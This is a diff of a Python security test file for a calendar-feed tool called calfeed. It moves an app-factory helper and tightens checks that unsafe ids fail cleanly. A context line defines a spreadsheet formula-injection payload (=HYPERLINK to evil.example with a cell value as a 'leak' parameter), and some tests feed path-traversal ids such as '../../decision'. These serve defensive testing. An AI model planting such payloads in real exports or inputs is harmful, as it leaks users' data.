@@ -1,4 +1,4 @@
-"""Privacy and web security (issue 5, item 3; DESIGN §6).
+"""Privacy and web security (DESIGN §6).
 
 Which providers have a progress report is not public: their calendars live behind
 tokens that are compared in constant time, replaced at once by a rotation, never sent
@@ -20,10 +20,10 @@ import icalendar
 import pytest
 from click.testing import CliRunner
 
-from calfeed import create_app, engine, tokens
+from calfeed import engine, tokens
 from calfeed.cli import main
 
-from conftest import SECRET, TODAY
+from conftest import SECRET, TODAY, make_app
 from serving import SECRET as SERVER_SECRET
 from serving import copy_data, fetch, gunicorn, rewrite
 
@@ -35,14 +35,6 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 def token_of(provider: str, rotation: int = 0, secret: str = SECRET) -> str:
     """The private token a provider has under a secret."""
     return tokens.token(secret.encode(), provider, rotation)
-
-
-def make_app(tmp_path, data):
-    """An app on the copies that looks at the files on every request."""
-    return create_app({"TESTING": True, "CALFEED_TODAY": TODAY, "CALFEED_SECRET_KEY": SECRET,
-                       "INSTANCE_PATH": str(tmp_path / "instance"),
-                       "CALFEED_RULES": str(data / "rules.toml"), "CALFEED_PROVIDERS": None,
-                       "CALFEED_RELOAD_INTERVAL": 0})
 
 
 # --- tokens -----------------------------------------------------------------
@@ -243,7 +235,8 @@ def test_build_refuses_a_roster_with_an_id_that_is_not_url_safe(tmp_path, data, 
                                        "--providers", str(roster), "--today", TODAY],
                                 env={"CALFEED_SECRET_KEY": SECRET})
     assert result.exit_code == 1, result.output
-    assert "column id" in result.output and "Traceback" not in result.output
+    assert "column id" in result.output
+    assert isinstance(result.exception, SystemExit), result.exception
     # nothing written anywhere: not outside OUTDIR, and no half site inside it
     assert sorted(p for p in tmp_path.rglob("*")) == before
     assert not Path("/tmp/escaped").exists()
@@ -257,7 +250,7 @@ def test_build_refuses_rules_with_an_id_that_is_not_url_safe(tmp_path, data):
                                        "--today", TODAY], env={"CALFEED_SECRET_KEY": SECRET})
     assert result.exit_code == 1, result.output
     assert '"../../decision" is not safe in a URL path' in result.output
-    assert "Traceback" not in result.output
+    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
     assert not outdir.exists() and not (tmp_path / "decision.ics").exists()
 
 
